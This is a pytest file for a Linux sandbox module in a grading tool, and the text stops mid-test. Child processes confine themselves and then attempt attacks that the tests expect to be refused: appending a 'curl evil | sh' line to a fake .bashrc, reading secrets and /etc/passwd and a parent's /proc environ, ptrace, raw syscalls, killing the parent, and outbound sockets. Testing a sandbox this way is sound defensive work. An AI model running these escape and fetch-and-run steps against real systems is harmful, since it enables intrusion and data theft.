"""Tests of grader/sandbox/confine.py: a child python calls confine() and then really attacks; each
attack must fail while legitimate work succeeds. (The grader's own use of it, through real
grading runs, is tested in tests/sandbox/.)

Every attack is harmless wherever it runs: writes target folders this test made, a fork or
clone that succeeds by accident exits at once, network attacks aim at listeners this test opened
on loopback. confine() itself only ever runs in child processes.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import platform
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from grader.sandbox import confine as C

# The children import confine.py as a top-level module from its folder (it has no package imports).
HERE = Path(C.__file__).resolve().parent

LINUX = sys.platform.startswith("linux")
ROOT = LINUX and os.geteuid() == 0
# The attacks use raw x86_64 syscall numbers (clone 56, kill 62, io_uring_setup 425, clone3 435).
X86_64 = platform.machine() == "x86_64"
pytestmark = pytest.mark.skipif(not (LINUX and X86_64), reason="confinement is Linux only; attacks are x86_64")

# Runs in the child: confine, then the test's body, then print the results as JSON.
PRELUDE = r'''
import ctypes, errno, json, os, signal, socket, sys, threading
P = json.loads(sys.argv[1])
sys.path.insert(0, P["confine_dir"])
import confine as C
try:
    import pyseccomp  # noqa: F401 - imported now, so the confine folder can leave sys.path
except Exception:
    pass
sys.path.pop(0)  # not granted by include_sys_path: the test's own folder stays unreadable
RESULTS = {}

def attempt(name, fn):
    """Record ok/err of fn(); an attack counts as refused only by an exception or errno."""
    try:
        value = fn()
        RESULTS[name] = {"ok": True, "value": repr(value)[:300]}
    except BaseException as exc:  # noqa: BLE001
        RESULTS[name] = {"ok": False, "type": type(exc).__name__, "errno": getattr(exc, "errno", None),
                         "msg": str(exc)[:300]}

def libc_call(fn, *args):
    """Call a libc function; raise OSError from errno when it returns -1."""
    libc = ctypes.CDLL(None, use_errno=True)
    f = getattr(libc, fn)
    f.restype = ctypes.c_long if fn == "syscall" else ctypes.c_int  # syscall() returns long
    r = f(*args)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r

status = None
if P.get("confine", True):
    status = C.confine(P["scratch"], read_roots=P["read_roots"], exclude=P["exclude"], **P["kwargs"])
'''

EPILOGUE = r"""
out = {"results": RESULTS}
if status is not None:
    out["status"] = {k: str(v) for k, v in status.mechanisms.items()}
    out["uid"], out["gid"], out["caps"] = status.uid, status.gid, status.capabilities
    out["seconds"], out["tmpdir"] = status.seconds, status.tmpdir
    out["rules"] = len(status.landlock_rules)
sys.stdout.flush()
print("\nRESULTS " + json.dumps(out))
"""


# ---------------------------------------------------------------------------------------------
# fixtures


@pytest.fixture
def world(tmp_path_factory):
    """A tree this test owns: a fake installation, a fake HOME, a secret, the student's copy
    (with an excluded solutions folder) and the scratch folder. The base is reachable by
    uid 65534 (mode 0755) so the non-root test can use it; targets are world-writable or
    world-readable so that only the sandbox, not file permissions, refuses the attacks."""
    base = Path(tempfile.mkdtemp(prefix="confine-test-", dir="/tmp"))
    base.chmod(0o755)
    w = {"base": base}
    install = base / "install" / "pkg"
    install.mkdir(parents=True)
    (install / "__init__.py").write_text("VALUE = 1\n")
    for p in (base / "install", install):
        p.chmod(0o777)
    (install / "__init__.py").chmod(0o666)
    home = base / "home"
    home.mkdir()
    home.chmod(0o777)
    (home / ".bashrc").write_text("# fake bashrc\n")
    (home / ".bashrc").chmod(0o666)
    secret = base / "secret.txt"
    secret.write_text("TOPSECRET\n")
    secret.chmod(0o644)
    student = base / "student"
    (student / "solutions").mkdir(parents=True)
    (student / "submission.py").write_text("def f():\n    return 42\n")
    (student / "solutions" / "answer.py").write_text("ANSWER = 'hidden'\n")
    for p in (student, student / "solutions"):
        p.chmod(0o755)
    w.update(
        install=install, home=home, secret=secret, student=student, scratch=Path(C.prepare_scratch(base / "scratch"))
    )
    yield w
    shutil.rmtree(base, ignore_errors=True)


def run_child(
    world,
    body: str,
    *,
    kwargs=None,
    env=None,
    python=None,
    preexec=None,
    confine_dir=None,
    read_roots=None,
    exclude=None,
    do_confine=True,
    timeout=120,
    extra=None,
):
    params = {
        "confine_dir": str(confine_dir or HERE),
        "scratch": str(world["scratch"]),
        "read_roots": [str(p) for p in (read_roots if read_roots is not None else [world["student"]])],
        # As the grader's client does: an installed copy of the grader is hidden too.
        "exclude": [
            str(p)
            for p in (exclude if exclude is not None else [world["student"] / "solutions", *C.private_entries(None)])
        ],
        "kwargs": kwargs or {},
        "confine": do_confine,
        "secret": str(world["secret"]),
        "home": str(world["home"]),
        "install": str(world["install"]),
        "student": str(world["student"]),
        "base": str(world["base"]),
        "parent_cwd": os.getcwd(),
        "ppid": os.getpid(),
        # Files an unconfined layer may manage to create outside the test's folder; removed below.
        "tmp_probe": f"/tmp/confine-test-evil-{os.getpid()}-{time.monotonic_ns()}",
        "shm_probe": f"/dev/shm/confine-test-evil-{os.getpid()}-{time.monotonic_ns()}",
        **(extra or {}),
    }
    child_env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(world["home"]),
        "TF_CPP_MIN_LOG_LEVEL": "2",
        "OMP_NUM_THREADS": "2",
        "OPENBLAS_NUM_THREADS": "2",
        "LANG": "C.UTF-8",
    }
    child_env.update(env or {})
    code = PRELUDE + textwrap.dedent(body) + EPILOGUE
    try:
        proc = subprocess.run(
            [python or sys.executable, "-I", "-c", code, json.dumps(params)],
            cwd=world["student"],
            env=child_env,
            capture_output=True,
            text=True,
            timeout=timeout,
            preexec_fn=preexec,
        )
    finally:
        for probe_file in (params["tmp_probe"], params["shm_probe"]):
            with contextlib.suppress(OSError):
                os.unlink(probe_file)
    marker = [line for line in proc.stdout.splitlines() if line.startswith("RESULTS ")]
    assert marker, (
        f"child failed (rc={proc.returncode}):\nstdout:\n{proc.stdout[-3000:]}\nstderr:\n{proc.stderr[-5000:]}"
    )
    out = json.loads(marker[-1][len("RESULTS ") :])
    out["stderr"] = proc.stderr
    return out


def refused(res, name, errnos=None):
    r = res["results"][name]
    assert not r["ok"], f"{name} was NOT refused: {r}"
    if errnos is not None:
        assert r["errno"] in errnos, f"{name}: unexpected errno {r}"
    return r


def succeeded(res, name):
    r = res["results"][name]
    assert r["ok"], f"{name} failed: {r}"
    return r


EACCES, EPERM, ENOSYS = 13, 1, 38


# ---------------------------------------------------------------------------------------------
# probe / API


def test_probe_reports_every_mechanism():
    status = C.probe()
    assert list(status) == list(C.MECHANISMS)
    for name, st in status.items():
        assert st.state in ("available", "unavailable", "not_needed", "skipped"), (name, st)
        assert str(st)
    # This machine (Linux 6.18, Landlock ABI 7, libseccomp 2.5) offers everything.
    if C._landlock_abi()[0] >= 6:
        assert all(status[k].state == "available" for k in ("landlock_fs", "landlock_net", "landlock_scopes"))


def test_non_linux_degrades_without_crashing(world):
    # Emulates macOS/Windows: every mechanism unavailable with a reason; strict raises first.
    body = r"""
    C._IS_LINUX = False
    st = C.confine(P["scratch"])
    RESULTS["states"] = {"ok": True, "value": {k: v.state for k, v in st.mechanisms.items()}}
    RESULTS["reasons"] = {"ok": True, "value": [v.detail for v in st.mechanisms.values()]}
    attempt("strict", lambda: C.confine(P["scratch"], strict=True))
    RESULTS["uid_after"] = {"ok": True, "value": os.getuid()}
    """
    res = run_child(world, body, do_confine=False)
    assert set(res["results"]["states"]["value"].values()) == {"unavailable"}
    assert all("Linux only" in r for r in res["results"]["reasons"]["value"])
    assert refused(res, "strict")["type"] == "ConfinementError"


def test_refuses_when_threads_are_running(world):
    body = r"""
    import time
    t = threading.Thread(target=time.sleep, args=(2,)); t.start()
    attempt("confine", lambda: C.confine(P["scratch"]))
    """
    res = run_child(world, body, do_confine=False)
    r = refused(res, "confine")
    assert r["type"] == "ConfinementError" and "single-threaded" in r["msg"]


@pytest.mark.skipif(not ROOT, reason="needs root")
def test_strict_raises_before_changing_anything(world):
    # The pyenv interpreter lives under /root (0700): without CAP_DAC_READ_SEARCH uid 65534
    # could not read the stdlib, so the privilege drop is unavailable and strict refuses.
    body = r"""
    attempt("strict", lambda: C.confine(P["scratch"], strict=True, keep_read_capability=False))
    RESULTS["uid"] = {"ok": True, "value": os.getuid()}
    RESULTS["nnp"] = {"ok": True, "value": open("/proc/self/status").read().split("NoNewPrivs:")[1].split()[0]}
    """
    if C.reachable_by(sys.prefix, 65534, 65534) is None:
        pytest.skip("the interpreter is reachable by nobody here")
    res = run_child(world, body, do_confine=False)
    r = refused(res, "strict")
    assert r["type"] == "ConfinementError" and "privilege_drop" in r["msg"]
    assert res["results"]["uid"]["value"] == 0 and res["results"]["nnp"]["value"] == "0"


# ---------------------------------------------------------------------------------------------
# the attacks

ATTACKS = r"""
import stat, subprocess, tempfile, time
secret, home, install, student, base = P["secret"], P["home"], P["install"], P["student"], P["base"]
scratch, ppid = P["scratch"], P["ppid"]

# -- files: writes outside scratch
attempt("write_install", lambda: open(os.path.join(install, "__init__.py"), "a").write("import evil\n"))
attempt("create_in_install", lambda: open(os.path.join(install, "evil.py"), "w").write("x"))
attempt("write_bashrc", lambda: open(os.path.join(home, ".bashrc"), "a").write("curl evil | sh\n"))
attempt("create_in_tmp", lambda: open(P["tmp_probe"], "w").write("x"))  # the parent removes these
attempt("create_in_devshm", lambda: open(P["shm_probe"], "w").write("x"))
attempt("truncate_install", lambda: os.truncate(os.path.join(install, "__init__.py"), 0))
attempt("unlink_install", lambda: os.unlink(os.path.join(install, "__init__.py")))
attempt("rename_out_of_scratch", lambda: (open(os.path.join(scratch, "m.txt"), "w").write("m"),
                                         os.rename(os.path.join(scratch, "m.txt"), os.path.join(home, "m.txt"))))
# -- files: reads outside the allowed roots
attempt("read_secret", lambda: open(secret).read())
attempt("list_base", lambda: os.listdir(base))
attempt("read_bashrc", lambda: open(os.path.join(home, ".bashrc")).read())
attempt("list_home", lambda: os.listdir(home))
attempt("list_parent_cwd", lambda: os.listdir(P["parent_cwd"]))
attempt("list_root", lambda: os.listdir("/root"))
attempt("list_tmp", lambda: os.listdir("/tmp"))
attempt("list_work", lambda: os.listdir("/work"))
attempt("read_etc_passwd", lambda: open("/etc/passwd").read())
attempt("read_excluded_solution", lambda: open(os.path.join(student, "solutions", "answer.py")).read())
_tag = str(os.getpid())
attempt("symlink_to_secret", lambda: (os.symlink(secret, os.path.join(scratch, "link" + _tag)),
                                      open(os.path.join(scratch, "link" + _tag)).read()))
attempt("hardlink_secret", lambda: os.link(secret, os.path.join(scratch, "hard" + _tag)))
attempt("proc_root_escape", lambda: open("/proc/self/root" + secret).read())
attempt("proc_parent_environ", lambda: open("/proc/%d/environ" % ppid, "rb").read())
attempt("proc_parent_cmdline", lambda: open("/proc/%d/cmdline" % ppid, "rb").read())
attempt("proc_parent_cwd_link", lambda: os.listdir("/proc/%d/cwd" % ppid))
attempt("proc_init_cmdline", lambda: open("/proc/1/cmdline", "rb").read())
attempt("list_proc", lambda: os.listdir("/proc"))
attempt("import_grader_checkout", lambda: __import__("grader"))
# -- legitimate file work
def scratch_work():
    d = os.path.join(scratch, "work"); os.mkdir(d)
    with open(os.path.join(d, "a.txt"), "w") as fh: fh.write("hello")
    os.rename(os.path.join(d, "a.txt"), os.path.join(scratch, "b.txt"))
    os.truncate(os.path.join(scratch, "b.txt"), 2)
    os.chmod(os.path.join(scratch, "b.txt"), 0o600) if os.getuid() else None
    fd, name = tempfile.mkstemp(); os.write(fd, b"t"); os.close(fd)
    assert name.startswith(scratch), name
    os.unlink(name); os.rmdir(d)
    return open(os.path.join(scratch, "b.txt")).read()
attempt("scratch_work", scratch_work)
attempt("chmod_scratch", lambda: os.chmod(scratch, 0o700))
attempt("read_student", lambda: open(os.path.join(student, "submission.py")).read())
attempt("list_student", lambda: sorted(os.listdir(student)))
attempt("read_own_proc", lambda: open("/proc/self/cmdline", "rb").read()[:20])
attempt("devnull_write", lambda: open(os.devnull, "w").write("x"))
attempt("urandom", lambda: len(os.urandom(16)) + len(open("/dev/urandom", "rb").read(4)))
attempt("import_json_stdlib", lambda: __import__("json").dumps([1]))

# -- processes
def fork_py():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid
attempt("os_fork", fork_py)
def fork_libc():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.fork()
    if pid == 0:
        libc._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "fork")
    return pid
attempt("libc_fork", fork_libc)
def raw_clone():  # clone(SIGCHLD, 0, 0, 0, 0) = fork without glibc
    pid = libc_call("syscall", 56, 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid
attempt("raw_clone_fork", raw_clone)
attempt("raw_clone3", lambda: libc_call("syscall", 435, None, 0))
attempt("subprocess_true", lambda: subprocess.run(["/bin/true"]))
attempt("os_execv", lambda: os.execv("/bin/true", ["true"]))
attempt("posix_spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
def system_true():
    status = os.system("true")
    if status != 0:
        raise OSError(0, "os.system returned %r" % status)
    return status
attempt("os_system", system_true)
# PTRACE_SEIZE (does not stop the tracee, so a success would be harmless too)
attempt("ptrace_parent", lambda: libc_call("ptrace", 0x4206, ppid, None, None))
def vm_read():
    buf = ctypes.create_string_buffer(8)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8); remote = iovec(0x400000, 8)
    return libc_call("process_vm_readv", ppid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
attempt("process_vm_readv", vm_read)
attempt("kill_parent", lambda: os.kill(ppid, 0))
attempt("kill_parent_highbits", lambda: libc_call("syscall", 62, ctypes.c_long(ppid | (1 << 32)), 0))
attempt("kill_init", lambda: os.kill(1, 0))
attempt("kill_group_0", lambda: os.kill(0, 0))
attempt("killpg_parent_group", lambda: os.killpg(os.getpgid(ppid), 0))
attempt("kill_self", lambda: os.kill(os.getpid(), 0))
got = []
signal.signal(signal.SIGUSR1, lambda *a: got.append(1))
attempt("raise_signal_self", lambda: (signal.raise_signal(signal.SIGUSR1), got)[1])
attempt("pthread_kill_self", lambda: (signal.pthread_kill(threading.get_ident(), signal.SIGUSR1), len(got))[1])
attempt("prctl_clear_pdeathsig", lambda: libc_call("prctl", 1, 0, 0, 0, 0))
attempt("prctl_dumpable", lambda: libc_call("prctl", 4, 1, 0, 0, 0))
attempt("io_uring_setup", lambda: libc_call("syscall", 425, 8, ctypes.create_string_buffer(120)))
_r, _w = os.pipe()  # a pipe, never a terminal: a refused TIOCSTI gives EPERM, a pipe ENOTTY
attempt("tiocsti", lambda: libc_call("ioctl", _r, 0x5412, ctypes.c_char_p(b"x")))
attempt("prlimit_parent", lambda: __import__("resource").prlimit(ppid, __import__("resource").RLIMIT_NOFILE))
attempt("setrlimit_self", lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_NOFILE,
                                                                   __import__("resource").getrlimit(__import__("resource").RLIMIT_NOFILE)))
attempt("setsid", lambda: os.setsid())
def i386(nr):
    # mov eax, nr; int 0x80; ret  -- a 32-bit syscall from 64-bit code (foreign architecture)
    import mmap
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(bytes([0xB8]) + nr.to_bytes(4, "little") + bytes([0xCD, 0x80, 0xC3]))
    fn = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    r = fn()
    if r == 0 and nr == 2:
        os._exit(0)  # a fork that worked: the child leaves at once
    if r < 0:
        raise OSError(-r, os.strerror(-r))
    return r
attempt("i386_fork", lambda: i386(2))
attempt("i386_getpid", lambda: i386(20))

# -- network
def tcp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(2)
    s.connect(("127.0.0.1", port)); return "connected"
attempt("tcp_connect", lambda: tcp(P["tcp_port"]))
attempt("socket_inet_libc", lambda: libc_call("socket", 2, 1, 0))
attempt("tcp_bind", lambda: socket.socket().bind(("127.0.0.1", 0)))
attempt("udp_sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", P["udp_port"])))
attempt("ipv6_socket", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))
attempt("netlink_socket", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt("packet_socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
def unix_abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(2)
    s.connect(P["abstract"]); return "connected"
attempt("unix_abstract_connect", unix_abstract)
def unix_path():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(2)
    s.connect(P["unix_path"]); return "connected"
attempt("unix_pathname_connect", unix_path)
def dgram_pair_reconnect():
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.connect(P["unix_path"]); return "reconnected"
attempt("socketpair_dgram", dgram_pair_reconnect)
def stream_pair():
    a, b = socket.socketpair(); a.sendall(b"hi"); return b.recv(2)
attempt("socketpair_stream", stream_pair)

# -- numpy and threads
def numpy_threads():
    import numpy as np
    out = [None] * 4
    def work(i):
        a = np.random.default_rng(i).standard_normal((400, 400))
        out[i] = float(np.trace(a @ a.T))
    ts = [threading.Thread(target=work, args=(i,)) for i in range(4)]
    [t.start() for t in ts]; [t.join() for t in ts]
    a = np.ones((600, 600)); s = float((a @ a).sum())  # OpenBLAS with 2 threads
    return {"sums": out, "matmul": s, "threads": len(os.listdir("/proc/self/task"))}
attempt("numpy_threads", numpy_threads)
attempt("uid", lambda: (os.getuid(), os.getgid(), os.getgroups()))
# last: a new user namespace would cut the process off from the files it may read
attempt("unshare_userns", lambda: libc_call("unshare", 0x10000000))  # CLONE_NEWUSER
"""


def _listeners(world):
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    tcp.setblocking(False)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    abstract = f"\0confine-test-{os.getpid()}-{time.monotonic_ns()}"
    ab = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    ab.bind(abstract)
    ab.listen(5)
    ab.setblocking(False)
    upath = str(world["base"] / "outside.sock")
    us = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    us.bind(upath)
    os.chmod(upath, 0o777)
    us.listen(5)
    us.setblocking(False)
    extra = {
        "tcp_port": tcp.getsockname()[1],
        "udp_port": udp.getsockname()[1],
        "abstract": abstract,
        "unix_path": upath,
    }
    return (tcp, udp, ab, us), extra


def _pending(sock) -> bool:
    return bool(select.select([sock], [], [], 0.2)[0])


def check_attacks(res):
    """Everything that must be refused, and everything that must work, in the default setup."""
    for name in (
        "write_install",
        "create_in_install",
        "write_bashrc",
        "create_in_tmp",
        "create_in_devshm",
        "truncate_install",
        "unlink_install",
        "read_secret",
        "list_base",
        "read_bashrc",
        "list_home",
        "list_root",
        "list_tmp",
        "list_work",
        "read_etc_passwd",
        "read_excluded_solution",
        "symlink_to_secret",
        "proc_root_escape",
        "proc_parent_environ",
        "proc_parent_cmdline",
        "proc_init_cmdline",
        "list_proc",
    ):
        refused(res, name, {EACCES})
    refused(res, "proc_parent_cwd_link", {EACCES, EPERM})
    refused(res, "hardlink_secret", {EACCES, EPERM, 18})  # EXDEV: Landlock refuses widening rights
    refused(res, "rename_out_of_scratch", {EACCES, 18})
    if not _inside_granted(os.getcwd()):
        refused(res, "list_parent_cwd", {EACCES})
    if Path("/work/main/grader").is_dir():
        refused(res, "import_grader_checkout")
    for name in (
        "scratch_work",
        "read_student",
        "list_student",
        "read_own_proc",
        "devnull_write",
        "urandom",
        "import_json_stdlib",
        "kill_self",
        "setrlimit_self",
        "socketpair_stream",
        "setsid",
        "chmod_scratch",
    ):
        succeeded(res, name)
    assert res["results"]["list_student"]["value"] == repr(["solutions", "submission.py"])
    assert eval(res["results"]["raise_signal_self"]["value"]) == [1]
    succeeded(res, "pthread_kill_self")
    # processes
    for name in (
        "os_fork",
        "libc_fork",
        "raw_clone_fork",
        "subprocess_true",
        "os_execv",
        "posix_spawn",
        "ptrace_parent",
        "process_vm_readv",
        "kill_parent",
        "kill_parent_highbits",
        "kill_init",
        "killpg_parent_group",
        "kill_group_0",
        "prctl_clear_pdeathsig",
        "prctl_dumpable",
        "unshare_userns",
        "io_uring_setup",
        "tiocsti",
        "prlimit_parent",
    ):
        refused(res, name, {EPERM, EACCES})
    refused(res, "os_system")
    refused(res, "raw_clone3", {ENOSYS})
    refused(res, "i386_fork", {ENOSYS})
    refused(res, "i386_getpid", {ENOSYS})
    # network
    for name in (
        "tcp_connect",
        "socket_inet_libc",
        "tcp_bind",
        "udp_sendto",
        "ipv6_socket",
        "netlink_socket",
        "packet_socket",
        "raw_icmp",
        "unix_abstract_connect",
        "unix_pathname_connect",
        "socketpair_dgram",
    ):
        refused(res, name, {EACCES, EPERM})
    r = succeeded(res, "numpy_threads")["value"]
    value = eval(r)
    assert value["matmul"] == 600.0**3 and all(v is not None for v in value["sums"])
    assert value["threads"] > 1  # OpenBLAS threads exist: thread creation works (clone3 -> clone)


def _inside_granted(path: str) -> bool:
    granted = [sys.prefix, "/usr/lib", "/lib", "/proc"]
    return any(os.path.realpath(path).startswith(g) for g in granted)


def test_attacks_fail_and_legit_work_succeeds(world):
    socks, extra = _listeners(world)
    try:
        res = run_child(world, ATTACKS, extra=extra)
        check_attacks(res)
        tcp, udp, ab, us = socks
        assert not _pending(tcp), "the TCP listener received a connection"
        assert not _pending(ab), "the abstract UNIX listener received a connection"
        assert not _pending(us), "the pathname UNIX listener received a connection"
        with pytest.raises(BlockingIOError):
            udp.recv(100)
    finally:
        for s in socks:
            s.close()
    st = res["status"]
    assert all(v.startswith("applied") or v.startswith("not_needed") for v in st.values()), st
    if ROOT:
        assert res["uid"] == 65534 and res["gid"] == 65534
        assert eval(res["results"]["uid"]["value"]) == (65534, 65534, [])
    assert res["tmpdir"] == str(world["scratch"] / "tmp")
    # Nothing was written where it must not be.
    assert (world["install"] / "__init__.py").read_text() == "VALUE = 1\n"
    assert not (world["install"] / "evil.py").exists()
    assert (world["home"] / ".bashrc").read_text() == "# fake bashrc\n"
    assert not (world["home"] / "m.txt").exists()


def test_each_layer_alone(world):
    """Landlock without seccomp, and seccomp without Landlock: what each layer stops by itself."""
    socks, extra = _listeners(world)
    try:
        ll = run_child(world, ATTACKS, kwargs={"skip": ["seccomp"]}, extra=extra)
        sc = run_child(world, ATTACKS, kwargs={"skip": ["landlock_fs", "landlock_net", "landlock_scopes"]}, extra=extra)
        tcp, udp, ab, us = socks
        # Landlock alone: files, TCP and abstract sockets are refused...
        for name in ("write_install", "read_secret", "proc_parent_environ"):
            refused(ll, name, {EACCES})
        refused(ll, "tcp_connect", {EACCES})
        refused(ll, "tcp_bind", {EACCES})
        refused(ll, "unix_abstract_connect", {EPERM})
        refused(ll, "os_execv", {EACCES})  # no EXECUTE right anywhere
        # ... but UDP is not covered by Landlock (ABI <= 7) and got through,
        succeeded(ll, "udp_sendto")
        assert udp.recv(100) == b"leak"
        # ... and a pathname UNIX socket outside every rule is reachable.
        succeeded(ll, "unix_pathname_connect")
        assert _pending(us)
        us.accept()[0].close()
        # seccomp alone: processes, sockets, signals refused; files are not its business.
        for name in ("os_fork", "libc_fork", "subprocess_true", "kill_parent", "ptrace_parent"):
            refused(sc, name, {EPERM})
        for name in ("tcp_connect", "udp_sendto", "unix_pathname_connect"):
            refused(sc, name, {EACCES})
        succeeded(sc, "read_student")
        succeeded(sc, "read_secret")  # world-readable: only Landlock stops this one
        if ROOT and C.reachable_by(sys.prefix, 65534, 65534):
            # Without Landlock the worker may not keep CAP_DAC_READ_SEARCH (it would read
            # everything), so uid 65534 could not reach this interpreter: it stays uid 0,
            # without capabilities, and seccomp also refuses chmod & co.
            assert sc["status"]["privilege_drop"].startswith("unavailable")
            assert sc["uid"] == 0 and sc["caps"] == ""
            refused(sc, "chmod_scratch", {EPERM})
    finally:
        for s in socks:
            s.close()


def test_allow_unix_sockets_opens_pathname_sockets(world):
    """allow_unix_sockets=True: abstract names stay blocked (Landlock scope), but a pathname
    socket outside every Landlock rule can be connected: Landlock ABI <= 7 does not cover it."""
    socks, extra = _listeners(world)
    try:
        body = ATTACKS.split("# -- network")[1].split("# -- numpy")[0]
        body = "import stat\nscratch, ppid = P['scratch'], P['ppid']\n" + body
        res = run_child(world, body, kwargs={"allow_unix_sockets": True}, extra=extra)
        refused(res, "unix_abstract_connect", {EPERM})
        refused(res, "tcp_connect", {EACCES})
        succeeded(res, "unix_pathname_connect")
        assert _pending(socks[3])
    finally:
        for s in socks:
            s.close()


def test_excluded_site_packages_entry(world):
    """An excluded site-packages entry cannot be imported; its neighbours still can."""
    import importlib.util

    spec = importlib.util.find_spec("six")
    if spec is None or not spec.origin:
        pytest.skip("six is not installed")
    body = r"""
    attempt("import_six", lambda: __import__("six"))
    attempt("import_numpy", lambda: __import__("numpy").__version__)
    attempt("list_site", lambda: len(os.listdir(os.path.dirname(P["six"]))))
    """
    res = run_child(world, body, exclude=[spec.origin], extra={"six": spec.origin})
    refused(res, "import_six", {EACCES})
    succeeded(res, "import_numpy")
    succeeded(res, "list_site")  # listing stays possible (READ_DIR on the split folder)
    assert res["rules"] > 50  # site-packages was granted entry by entry


@pytest.mark.skipif(not ROOT, reason="runs a child as uid 65534; needs root")
def test_unprivileged_caller_same_uid_victim(world):
    """Students' machines: confine() as a non-root user (system python run as nobody), with a
    victim process of the same uid that DAC would let the worker signal and ptrace."""
    system_python = shutil.which("python3", path="/usr/bin")
    if not system_python or C.reachable_by(system_python, 65534, 65534):
        pytest.skip("no system python reachable by nobody")
    import pyseccomp

    lib = world["base"] / "lib"
    lib.mkdir()
    shutil.copy(HERE / "confine.py", lib)
    shutil.copy(pyseccomp.__file__, lib)
    lib.chmod(0o755)
    for f in lib.iterdir():
        f.chmod(0o644)
    os.chown(world["scratch"], 65534, 65534)

    def as_nobody():
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)

    victim = subprocess.Popen(["/bin/sleep", "30"], preexec_fn=as_nobody)
    try:
        body = r"""
        v = P["victim"]
        attempt("kill_victim", lambda: os.kill(v, signal.SIGTERM))
        attempt("ptrace_victim", lambda: libc_call("ptrace", 16, v, None, None))
        attempt("victim_environ", lambda: open("/proc/%d/environ" % v, "rb").read())
        attempt("read_secret", lambda: open(P["secret"]).read())
        attempt("write_bashrc", lambda: open(os.path.join(P["home"], ".bashrc"), "a").write("x"))
        attempt("fork", lambda: (lambda p: os._exit(0) if p == 0 else p)(os.fork()))
        attempt("tcp", lambda: socket.create_connection(("127.0.0.1", 9), timeout=1))
        attempt("scratch", lambda: open(os.path.join(P["scratch"], "ok.txt"), "w").write("ok"))
        attempt("uid", lambda: os.getuid())
        """
        # As a non-root user (DAC would allow all of these) with seccomp off, Landlock alone:
        res_ll = run_child(
            world,
            body,
            python=system_python,
            preexec=as_nobody,
            confine_dir=lib,
            kwargs={"skip": ["seccomp"]},
            extra={"lib": str(lib), "victim": victim.pid},
        )
        res = run_child(
            world,
            body,
            python=system_python,
            preexec=as_nobody,
            confine_dir=lib,
            extra={"lib": str(lib), "victim": victim.pid},
        )
        for r in (res_ll, res):
            assert r["status"]["privilege_drop"].startswith("not_needed")
            assert r["uid"] == 65534
            refused(r, "kill_victim", {EPERM})
            refused(r, "ptrace_victim", {EPERM})
            refused(r, "victim_environ", {EACCES})
            refused(r, "read_secret", {EACCES})
            refused(r, "write_bashrc", {EACCES})
            refused(r, "tcp", {EACCES})
            succeeded(r, "scratch")
        succeeded(res_ll, "fork")  # Landlock does not stop fork; seccomp does:
        refused(res, "fork", {EPERM})
        assert victim.poll() is None, "the victim was killed"
    finally:
        victim.kill()
        victim.wait()


def test_pdeathsig_kills_the_worker_with_its_parent(world):
    """The worker dies when its parent dies (PR_SET_PDEATHSIG armed after the uid change)."""
    worker_code = PRELUDE + (
        "open(os.path.join(P['scratch'], 'worker.pid'), 'w').write(str(os.getpid()))\nimport time\ntime.sleep(60)\n"
    )
    params = json.dumps(
        {
            "confine_dir": str(HERE),
            "scratch": str(world["scratch"]),
            "read_roots": [],
            "exclude": [],
            "kwargs": {},
            "confine": True,
        }
    )
    pidfile = world["scratch"] / "worker.pid"
    middle = textwrap.dedent(f"""
        import os, subprocess, sys, time
        subprocess.Popen([sys.executable, "-I", "-c", {worker_code!r}, {params!r}])
        deadline = time.monotonic() + 30
        while not os.path.exists({str(pidfile)!r}) and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.2)
    """)  # ... and the middle process exits: its child must die with it
    subprocess.run([sys.executable, "-I", "-c", middle], timeout=60, check=True)
    pid = int(pidfile.read_text())
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            break  # gone
        if state == "Z":
            break  # dead, not yet reaped
        time.sleep(0.1)
    else:
        os.kill(pid, signal.SIGKILL)
        pytest.fail("the confined worker outlived its parent")


@pytest.mark.slow
def test_tensorflow_keras_confined(world):
    """Slow (~15 s): TF + Keras import, fit, save/load in scratch, all while confined; TF's own
    threads are confined too (tf.io / tf.data cannot reach outside)."""
    body = r"""
    def tf_work():
        import numpy as np
        import tensorflow as tf
        import keras
        x = np.random.default_rng(0).standard_normal((256, 20)).astype("float32")
        y = (x[:, 0] > 0).astype("float32")
        model = keras.Sequential([keras.Input((20,)), keras.layers.Dense(16, activation="relu"),
